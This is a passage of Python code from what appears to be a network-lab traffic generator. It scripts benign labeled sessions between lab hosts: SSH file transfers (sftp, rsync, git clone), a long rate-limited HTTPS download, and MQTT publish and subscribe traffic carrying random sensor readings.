                            "--duration", round(max(lab.remaining() - 3, 5)), "--seed", p["seed"]),
                   f"{s.id}-agent")
    if not lab.sleep_until(s.start + float(p["idle_before"])):  # type: ignore[arg-type]
        return
    dur = min(float(p["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]),  # type: ignore[call-overload]
                                 ssh_client(lab, "-tt", "-p", str(fwd), "root@127.0.0.1")), f"{s.id}-use")


def ssh_transfer(lab: Lab, s: Session) -> None:
    """Benign bulk and short SSH uses: sftp, rsync over ssh, git clone over ssh."""
    client, server, port = ssh_server(lab, s)
    p = s.params
    key = str(lab.dir / "ssh" / "id_ed25519")
    ssh_cmd = " ".join(["ssh", "-i", key, *SSH_OPTS, "-o", f"BindAddress={client}", "-p", str(port)])
    t = s.start
    ops: list[tuple[str, int]] = p["ops"]  # type: ignore[assignment]
    for i, (tool, size) in enumerate(ops):
        if not lab.sleep_until(t):
            return
        dst = lab.dir / "files" / f"{s.id}-{i}"
        if tool == "sftp":
            batch = lab.dir / "files" / f"{s.id}-{i}.sftp"
            batch.write_text(f"get {lab.dir / 'files' / f'f{size}'} {dst}\nls\n")
            argv = ["sftp", "-i", key, *SSH_OPTS, "-o", f"BindAddress={client}", "-P", str(port),
                    "-b", str(batch), f"root@{server}"]
        elif tool == "rsync":
            argv = ["rsync", "-a", "-e", ssh_cmd, f"root@{server}:{lab.dir / 'files' / f'f{size}'}", str(dst)]
        else:
            argv = ["git", "clone", "-q", "--config", f"core.sshCommand={ssh_cmd}",
                    f"ssh://root@{server}{lab.dir / 'repo.git'}", str(dst)]
        lab.topo.run("in", *argv, check=False)
        t = time.monotonic() - lab.t0 + lab.rng.uniform(5, 60)


def long_download(lab: Lab, s: Session) -> None:
    """A long, rate-limited HTTPS download (a long-lived flow that is benign)."""
    client = lab.hosts()[0]
    server = lab.topo.outside_ip(NGINX_TLS12_HOST if tls12(s) else 250)
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, 443))
    if not lab.sleep_until(s.start):
        return
    lab.topo.run("in", "curl", "-sk", "--interface", client, "--limit-rate", str(s.params["rate"]),
                 "--max-time", str(round(max(lab.remaining() - 3, 5))), "-o", "/dev/null",
                 f"https://{server}/f{s.params['size']}", check=False)


def mqtt(lab: Lab, s: Session) -> None:
    """MQTT (mosquitto): a subscriber with keepalive pings and publishes now and then."""
    client, server = lab.hosts()
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    conf = lab.dir / f"mosquitto-{s.id}.conf"
    conf.write_text(f"listener {port} {server}\nallow_anonymous true\npersistence false\n")
    lab.topo.spawn("out", ["mosquitto", "-c", str(conf)], f"{s.id}-broker")
    if not lab.sleep_until(s.start):
        return
    lab.topo.spawn("in", ["mosquitto_sub", "-h", server, "-p", str(port), "-A", client, "-t", "sensors/#",
                          "-k", str(p["keepalive"]), "--id", s.id], f"{s.id}-sub")
    t = s.start + 2
    while lab.sleep_until(t):
        lab.topo.run("out", "mosquitto_pub", "-h", server, "-p", str(port), "-t", "sensors/t1",
                     "-m", json_reading(lab), check=False)
        t += lab.rng.expovariate(1 / float(p["publish_every"]))  # type: ignore[arg-type]


def json_reading(lab: Lab) -> str:
    return f'{{"temp": {lab.rng.uniform(18, 30):.2f}, "hum": {lab.rng.uniform(20, 80):.1f}}}'
